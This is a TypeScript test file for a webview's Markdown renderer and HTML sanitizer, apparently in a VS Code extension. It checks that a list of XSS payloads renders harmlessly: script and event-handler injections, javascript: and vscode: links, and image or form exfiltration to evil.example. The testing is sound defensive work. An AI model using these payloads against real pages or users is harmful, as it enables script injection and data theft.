import './dom.ts';

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createHighlight } from '../../src/webview/highlight/highlight.ts';
import { createMarkdown, showAll } from '../../src/webview/render/markdown.ts';
import { createSanitize, SHOWN_TAGS } from '../../src/webview/render/sanitize.ts';
import { dom } from './dom.ts';

const markdown = createMarkdown(
  dom,
  (message, ...args) => message.replace(/\{(\d)\}/g, (_, at) => String(args[Number(at)])),
  () => undefined,
  createHighlight(),
);

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=key><button>Go</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{display:none}</style>',
  '<p style="background:url(https://evil.example/x)">styled</p>',
  '<p id="app" name="root" class="composer codicon">clobber</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa&#x09;ScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="command:workbench.action.quit">x</a>',
  '<a href="vscode://evil.extension/run">x</a>',
  '<a href="//evil.example" target=_blank onclick=alert(1)>x</a>',
  '<a data-href="javascript:alert(1)" data-code-action="run">x</a>',
  '<div data-code-action="run" aria-label="Send" role="button">x</div>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.example/leak?q=secret)',
  '![x](x" onerror="alert(1))',
  '<https://evil.example/"onmouseover=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror=alert(1)></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<body onload=alert(1)>',
  '<b onmouseover=alert(1) style=color:red>x</b>',
  '<details open ontoggle=alert(1)>x</details>',
  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<a href="https://a.example/<!--"><script>alert(1)</script>',
];

const ATTRIBUTES = new Set([
  'title',
  'class',
  'align',
  'start',
  'colspan',
  'rowspan',
  'data-href',
  'role',
  'tabindex',
]);

function assertHarmless(nodes: readonly Node[], source: string): void {
  const frame = dom.document.createElement('div');
  frame.append(...nodes);
  for (const element of frame.querySelectorAll('*')) {
    assert.ok(SHOWN_TAGS.includes(element.localName), `<${element.localName}> from ${source}`);
    for (const { name, value } of element.attributes) {
      assert.ok(ATTRIBUTES.has(name), `${name}="${value}" from ${source}`);
      if (name === 'data-href')
        assert.doesNotMatch(value, /^\W*(javascript|vbscript|data|command|vscode):/i, source);
      if (name === 'class') assert.match(value, /^(language-\S+|hljs-[\w-]+( [a-z]+_+)?)$/, source);
    }
  }
}

test('Nothing in an answer can act, load or navigate', () => {
  for (const attack of ATTACKS) assertHarmless(showAll(markdown, attack), attack);
});

test('Attacks are harmless inside lists, quotes and tables, too', () => {
  for (const attack of ATTACKS) {
    const line = attack.replaceAll('\n', ' ');
    for (const source of [
      `- ${line}`,
      `> ${line}`,
      `| a |\n|---|\n| ${line} |`,
      `text ${line} text`,
      `# ${line}`,
    ]) {
      assertHarmless(showAll(markdown, source), source);
    }
  }
});

test('The sanitizer alone holds, whatever Markdown makes of a text', () => {
  const sanitize = createSanitize(dom);
  for (const attack of ATTACKS) assertHarmless([...sanitize(attack).childNodes], attack);
});

function htmlOf(source: string): string {
  const frame = dom.document.createElement('div');
  frame.append(...showAll(markdown, source));
  return frame.innerHTML;
}

test('A link keeps its address where only the page can use it', () => {
  assert.equal(
    htmlOf('[a](https://a.example/b "T")'),
    '<p><a title="T" data-href="https://a.example/b" role="link" tabindex="0">a</a></p>',
  );
  assert.match(htmlOf('[a](src/a.ts#L3)'), /data-href="src\/a\.ts#L3"/);
  assert.match(htmlOf('<someone@a.example>'), /data-href="mailto:someone@a\.example"/);
});

test('An image becomes a link that says so, and is never loaded', () => {
  assert.equal(
    htmlOf('![a cat](https://a.example/cat.png)'),
    '<p><a data-href="https://a.example/cat.png" role="link" tabindex="0" title="https://a.example/cat.png">' +
      'image: a cat (https://a.example/cat.png)</a></p>',
  );
});

test('Tags that are not HTML for reading are shown as they were written', () => {
  assert.equal(htmlOf('Use <Button kind="a"> here.'), '<p>Use &lt;Button kind="a"&gt; here.</p>');
  assert.equal(htmlOf('<script>alert(1)</script>'), '&lt;script&gt;alert(1)&lt;/script&gt;');
  assert.equal(htmlOf('Press <kbd>F5</kbd>, H<sub>2</sub>O'), '<p>Press <kbd>F5</kbd>, H<sub>2</sub>O</p>');
});

test('A tag left open does not swallow the next paragraph', () => {
  assert.match(htmlOf('<b>one\n\ntwo'), /<p>two<\/p>$/);
  assert.match(htmlOf('<table>\n\n- a'), /<\/table>.*<li>a<\/li>/s);
});
